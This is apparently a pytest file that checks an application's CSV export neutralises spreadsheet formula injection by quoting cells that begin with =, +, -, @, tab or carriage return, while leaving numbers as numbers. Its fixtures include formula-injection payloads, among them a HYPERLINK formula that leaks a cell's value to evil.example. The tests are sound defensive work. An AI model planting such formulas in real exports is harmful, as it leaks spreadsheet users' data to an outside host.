"""CSV exports defuse spreadsheet formulas in text (app.reports.csvexport), and keep numbers numbers."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient

from app.http.timefmt import now_ms
from app.reports.csvexport import csv_text
from ingest.writer import BatchWriter
from tests.app.conftest import auth
from tests.app.tickets.test_routes import _ev

FORMULAS = ("=1+1", "+1+1", "-2+3", "@SUM(A1:A9)", '=HYPERLINK("http://evil.example/?"&A1,"klik")', "\t=1", "\r=1")


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_text_that_a_spreadsheet_would_run_gets_a_leading_quote() -> None:
    rows = _rows("".join(csv_text(["title"], [[f] for f in FORMULAS])))
    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS]


def test_numbers_and_harmless_text_are_written_as_they_are() -> None:
    rows = _rows(
        "".join(
            csv_text(
                ["a", "b", "c", "d", "e"],
                [[-3.5, -2, "Banjir -20 cm", "", None], [0, 1.25, "a=b", True, "2026-11-22T08:15:00Z"]],
            )
        )
    )
    assert rows[1:] == [["-3.5", "-2", "Banjir -20 cm", "", ""], ["0", "1.25", "a=b", "true", "2026-11-22T08:15:00Z"]]


def test_a_ticket_title_from_an_integrator_reaches_the_export_defused(
    client: TestClient, tokens: dict[str, str], writer: BatchWriter
) -> None:
    t = now_ms()
    writer.write(
        [
            _ev(
                "X1",
                "open",
                t,
                title='=HYPERLINK("http://evil.example","klik")',
                description="@SUM(1)",
                lat=-0.5,
                lon=128.3,
            )
        ]
    )
    r = client.get("/api/v1/exports/tickets.csv", headers=auth(tokens["viewer"]))
    row = next(r for r in csv.DictReader(io.StringIO(r.text)) if r["ticket_id"] == "X1")
    assert row["title"] == '\'=HYPERLINK("http://evil.example","klik")' and row["description"] == "'@SUM(1)"
    assert row["lat"] == "-0.5"  # a real negative number stays a number
